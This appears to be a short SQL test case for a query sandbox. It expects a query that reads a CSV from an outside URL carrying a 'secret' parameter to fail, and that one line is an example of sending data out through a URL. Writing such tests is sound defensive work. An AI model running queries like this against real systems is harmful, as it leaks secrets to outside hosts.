-- tries: to send data out in a URL
-- want: fails "statement 1"
SELECT * FROM read_csv('https://example.org/?secret=1');
